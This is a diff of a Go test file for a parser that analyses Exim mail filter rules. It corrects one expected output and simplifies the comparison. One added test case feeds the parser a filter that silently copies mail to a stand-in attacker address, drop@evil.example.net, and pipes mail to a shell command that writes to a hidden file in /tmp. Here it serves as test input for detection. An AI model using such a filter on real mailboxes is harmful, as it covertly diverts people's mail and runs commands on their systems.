@@ -34,11 +34,13 @@ func TestParse(t *testing.T) {
 		{"a copy", "unseen deliver x@y.example", "1 deliver x@y.example"},
 		{"instead", "deliver x@y.example", "1 deliver x@y.example [diverts]"},
 		{"a copy and an end", "unseen deliver x@y.example\nfinish", "1 deliver x@y.example\n2 finish"},
-		{"a copy, and the rest into the hole", "unseen deliver x@y.example\nseen finish", "1 deliver x@y.example [diverts]\n2 finish seen"},
+		{"a copy, and the rest into the hole", "unseen deliver x@y.example\nseen finish", "1 deliver x@y.example [diverts]\n2 finish"},
 		{"black hole", "seen finish", "1 finish [drops]"},
 		{"black hole by another command", `seen logwrite "x"`, "1 logwrite x [drops]"},
 		{"delivered before under a condition only", "if personal then deliver a@b.example endif\nseen finish", "1 deliver a@b.example [diverts] if the mail is personal\n2 finish [drops]"},
 		{"what ends inside", "if personal then unseen deliver a@b.example finish endif\nseen finish", "1 deliver a@b.example if the mail is personal\n1 finish if the mail is personal\n2 finish [drops]"},
+		{"a copy to somebody and to a shell", "# Exim filter\nunseen deliver drop@evil.example.net\nunseen pipe \"/bin/sh -c \\\"id > /tmp/.uf\\\"\"\n",
+			"2 deliver drop@evil.example.net\n3 pipe /bin/sh -c \"id > /tmp/.uf\""},
 		{"never", "finish\ndeliver a@b.example", "1 finish\n2 deliver a@b.example [never]"},
 		{"never after both branches", "if personal then finish else finish endif\nsave x", "1 finish if the mail is personal\n1 finish if the mail is not personal\n2 save x [never]"},
 		{"elif", "if a is b then pipe p elif c contains \"d e\" then pipe q else pipe r endif",
@@ -55,8 +57,7 @@ func TestParse(t *testing.T) {
 		{"fail with a string", `fail "go"`, "1 fail go"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			got := show(Parse(tc.in, Rights{System: true}))
-			if got = strings.ReplaceAll(got, "2 finish seen", "2 finish"); got != strings.ReplaceAll(tc.want, "2 finish seen", "2 finish") {
+			if got := show(Parse(tc.in, Rights{System: true})); got != tc.want {
 				t.Errorf("got\n%s\nwant\n%s", got, tc.want)
 			}
 		})
